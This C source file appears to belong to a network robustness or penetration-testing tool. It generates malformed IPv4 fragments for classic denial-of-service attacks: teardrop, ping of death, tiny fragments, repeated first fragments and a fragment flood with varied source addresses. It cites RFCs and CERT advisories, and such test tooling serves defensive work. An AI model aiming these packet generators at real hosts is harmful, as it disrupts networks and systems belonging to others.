/* Fragments of IPv4 (RFC 791, section 3.2) that do not make a packet, or one that must not be. */
#include "penetration.h"

#define MORE 0x2000u
#define UNIT 8u /* offsets count in these bytes */
#define PIECE 24u

/* Cut a piece out of a whole packet: its bytes from `from` on, as the fragment of that offset. */
static void cut(struct frame *frame, size_t at, unsigned identification, unsigned from, unsigned size, bool more)
{
    uint8_t piece[2048];
    size_t body = at + 20 + from;
    for (unsigned i = 0; i < size && i < sizeof piece; i++) {
        piece[i] = body + i < frame->size ? frame->bytes[body + i] : 0;
    }
    frame->size = at + 20;
    add(frame, piece, size);
    set_u16(frame, at + 4, identification);
    set_u16(frame, at + 6, (more ? MORE : 0) | from / UNIT);
    seal_ipv4(frame, at);
}

static size_t whole(struct frame *frame, const struct strike *strike, unsigned port, const void *data, size_t size)
{
    begin_frame(frame, strike->victim, TYPE_IPV4);
    size_t at = begin_ipv4(frame, IPPROTO_UDP, node_address(place.self), node_address(strike->victim));
    if (data == NULL) {
        add_evil(frame, at);
    } else {
        add_udp(frame, at, port, data, size);
    }
    seal_ipv4(frame, at);
    return at;
}

/* the second piece begins inside the first, and the third ends inside the second (CERT CA-1997-28) */
static void teardrop(struct frame *frame, struct strike *strike)
{
    static const unsigned places[][2] = {{0, PIECE}, {8, PIECE}, {16, 28}};
    size_t at = whole(frame, strike, ECHO_PORT, NULL, 0);
    unsigned piece = strike->number % 3;
    cut(frame, at, 0x1000 + strike->number / 3, places[piece][0], places[piece][1], piece < 2);
}

/* whole packets, but eight bytes at a time, the last first (RFC 1858 has why they are feared) */
static void tiny_fragments(struct frame *frame, struct strike *strike)
{
    size_t at = whole(frame, strike, CLOSED_PORT, "012345678901234567890123456789012345678901234567890123456789", 56);
    unsigned piece = 7 - strike->number % 8;
    cut(frame, at, 0x3000 + strike->number / 8, piece * UNIT, UNIT, piece < 7);
}

/* the first again and again, each with other bytes, and no last */
static void first_again(struct frame *frame, struct strike *strike)
{
    size_t at = whole(frame, strike, ECHO_PORT, NULL, 0);
    frame->bytes[at + 28 + strike->number % 8] ^= (uint8_t)(1 + below(strike, 255));
    cut(frame, at, 0x5000 + strike->number / 16, 0, UNIT * (1 + strike->number % 5), true);
}

/* ends behind the largest packet that there can be (CERT CA-1996-26) */
static void ping_of_death(struct frame *frame, struct strike *strike)
{
    begin_frame(frame, strike->victim, TYPE_IPV4);
    size_t at = begin_ipv4(frame, IPPROTO_ICMP, node_address(place.self), node_address(strike->victim));
    add_echo(frame, 7, strike->number, 1400);
    cut(frame, at, 0x7000 + strike->number / 2, strike->number % 2 ? 65528 : 0, 1400, strike->number % 2 == 0);
}

/* a whole echo request of 8 KiB, in its pieces */
static void icmp_large(struct frame *frame, struct strike *strike)
{
    begin_frame(frame, strike->victim, TYPE_IPV4);
    size_t at = begin_ipv4(frame, IPPROTO_ICMP, node_address(place.self), node_address(strike->victim));
    add_echo(frame, 8, strike->number / 6, 8184);
    unsigned piece = strike->number % 6;
    cut(frame, at, 0x9000 + strike->number / 6, piece * 1480, piece < 5 ? 1480 : 8192 - 5 * 1480, piece < 5);
}

/* never more than two of four pieces; each packet another */
static void fragment_flood(struct frame *frame, struct strike *strike)
{
    begin_frame(frame, strike->victim, TYPE_IPV4);
    size_t at = begin_ipv4(frame, IPPROTO_UDP, node_address(0x6000 + strike->number % 512), node_address(strike->victim));
    add_zeros(frame, 1400);
    cut(frame, at, strike->number / 2, strike->number % 2 ? 2800 : 0, 1400, true);
}

const struct attack attacks_fragments[] = {
    {"teardrop", teardrop},
    {"tiny_fragments", tiny_fragments},
    {"first_again", first_again},
    {"ping_of_death", ping_of_death},
    {"icmp_large", icmp_large},
    {"fragment_flood", fragment_flood},
    {NULL, NULL},
};
